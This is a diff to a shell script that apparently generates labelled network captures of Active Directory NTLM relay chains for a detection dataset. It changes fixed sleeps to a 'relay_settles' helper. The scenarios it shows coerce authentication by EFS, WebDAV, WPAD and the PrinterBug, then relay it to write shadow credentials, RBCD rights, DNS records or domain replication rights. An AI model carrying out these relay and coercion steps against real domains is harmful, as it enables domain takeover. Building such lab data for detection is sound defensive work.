@@ -31,7 +31,7 @@ scenario_chain_shadow_credentials() {
   record chain_shadow_credentials
   relay_on smb -t "ldap://$DC" "${SHADOW[@]}" --shadow-target "$MACHINE" --remove-mic
   efs_call
-  sleep 6
+  relay_settles 6
   truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" expect=ldap-write:msDS-KeyCredentialLink \
     expect=chain "$IMPACKET_TOOLS" \
     notes="Coerced over SMB, relayed to LDAP, and a key added to the victim's own account."
@@ -43,7 +43,7 @@ scenario_chain_shadow_webdav() {
   record chain_shadow_webdav
   relay_on http -t "ldap://$DC" "${SHADOW[@]}" --shadow-target "$MACHINE"
   machine_webdav $EVIL
-  sleep 6
+  relay_settles 6
   truth "${CHAIN[@]}" target=$DC expect=relay:webdav-ldap expect=webdav expect=ldap-write:msDS-KeyCredentialLink \
     "$CURL_TOOLS" notes="The same over WebDAV, where nothing has to be stripped. The call that caused it is not in the capture."
   rights off
@@ -53,7 +53,7 @@ scenario_chain_shadow_user() {
   record chain_shadow_user
   relay_on http -t "ldap://$DC" "${SHADOW[@]}" --shadow-target "$FILE_SERVER"
   bob_http "http://$EVIL/"
-  sleep 6
+  relay_settles 6
   truth "${USER_CHAIN[@]}" target=$DC expect=relay:http-ldap expect=ldap-write:msDS-KeyCredentialLink "$CURL_TOOLS" \
     notes="An administrator's web logon is relayed, and a key added to a file server's account."
 }
@@ -70,7 +70,7 @@ scenario_chain_rbcd() {
   record chain_rbcd
   relay_on smb -t "ldap://$DC" "${RBCD[@]}" --remove-mic
   efs_call
-  sleep 6
+  relay_settles 6
   truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" \
     expect=ldap-write:msDS-AllowedToActOnBehalfOfOtherIdentity expect=chain "$IMPACKET_TOOLS" \
     notes="Coerced over SMB, relayed to LDAP, and another account allowed to act for everybody at the victim."
@@ -82,7 +82,7 @@ scenario_chain_rbcd_webdav() {
   record chain_rbcd_webdav
   relay_on http -t "ldap://$DC" "${RBCD[@]}"
   machine_webdav $EVIL
-  sleep 6
+  relay_settles 6
   truth "${CHAIN[@]}" target=$DC expect=relay:webdav-ldap expect=webdav \
     expect=ldap-write:msDS-AllowedToActOnBehalfOfOtherIdentity "$CURL_TOOLS" notes="The same over WebDAV."
   rights off
@@ -93,7 +93,7 @@ scenario_chain_rbcd_http() {
   record chain_rbcd_http
   relay_on http -t "ldap://$DC" "${RBCD[@]}"
   machine_http "http://$EVIL/wpad.dat" -A 'WinHttp-Autoproxy-Service/5.1'
-  sleep 6
+  relay_settles 6
   truth "${CHAIN[@]}" target=$DC expect=relay:http-ldap \
     expect=ldap-write:msDS-AllowedToActOnBehalfOfOtherIdentity "$CURL_TOOLS" \
     notes="A machine's logon at a web server that hands out proxy settings, relayed to LDAP."
@@ -110,7 +110,7 @@ scenario_chain_dns_node() {
   record chain_dns_node
   relay_on smb -t "ldap://$DC" "${DNS_NODE[@]}" intranet $EVIL --remove-mic
   efs_call
-  sleep 6
+  relay_settles 6
   truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" expect=ldap-write:dnsnode \
     expect=follow-up:adidns expect=chain "$IMPACKET_TOOLS" notes="A name that points to the attacker, over the relayed session."
   rights off
@@ -121,7 +121,7 @@ scenario_chain_dns_node_http() {
   record chain_dns_node_http
   relay_on http -t "ldap://$DC" "${DNS_NODE[@]}" reports $EVIL
   bob_http "http://$EVIL/"
-  sleep 6
+  relay_settles 6
   truth "${USER_CHAIN[@]}" target=$DC expect=relay:http-ldap expect=ldap-write:dnsnode expect=follow-up:adidns "$CURL_TOOLS" \
     notes="A user's web logon, relayed; the name is added."
   forget_name reports $EVIL
@@ -147,7 +147,7 @@ scenario_chain_dacl() {
   record chain_dacl
   relay_on smb -t "ldap://$DC" "${DACL[@]}" --remove-mic
   efs_call
-  sleep 8
+  relay_settles 8
   truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" expect=ldap-write:nTSecurityDescriptor \
     expect=chain "$IMPACKET_TOOLS" notes="The right to replicate, given to a user by a write of the domain's security descriptor."
   rights off
@@ -157,7 +157,7 @@ scenario_chain_dacl_http() {
   record chain_dacl_http
   relay_on http -t "ldap://$DC" "${DACL[@]}"
   bob_http "http://$EVIL/"
-  sleep 8
+  relay_settles 8
   truth "${USER_CHAIN[@]}" target=$DC expect=relay:http-ldap expect=ldap-write:nTSecurityDescriptor "$CURL_TOOLS" \
     notes="The same with an administrator's web logon."
 }
@@ -167,7 +167,7 @@ scenario_chain_dacl_webdav() {
   record chain_dacl_webdav
   relay_on http -t "ldap://$DC" "${DACL[@]}"
   machine_webdav $EVIL
-  sleep 8
+  relay_settles 8
   truth "${CHAIN[@]}" target=$DC expect=relay:webdav-ldap expect=webdav expect=ldap-write:nTSecurityDescriptor \
     "$CURL_TOOLS" notes="The same over WebDAV."
   rights off
@@ -232,7 +232,7 @@ scenario_chain_four_hosts_icpr() {
   record chain_four_hosts_icpr
   RELAY_HOST=drop relay_on smb -t "rpc://$CA" -rpc-mode ICPR -icpr-ca-name 'lab-CA'
   call "ncacn_np:$SRV[\\pipe\\spoolss]" RpcRemoteFindFirstPrinterChangeNotificationEx "\\\\$DROP" --level 2
-  sleep 5
+  relay_settles 5
   truth malicious=yes attacker=$EVIL also=attacker:$DROP victim=$SRV listener=$DROP target=$CA family=chain expect=coercion:rprn \
     expect=callback:smb expect=relay:smb-rpc expect=icpr-enrollment expect=chain "$IMPACKET_TOOLS" \
     notes="PrinterBug, and the certificate authority's RPC interface at level CONNECT."
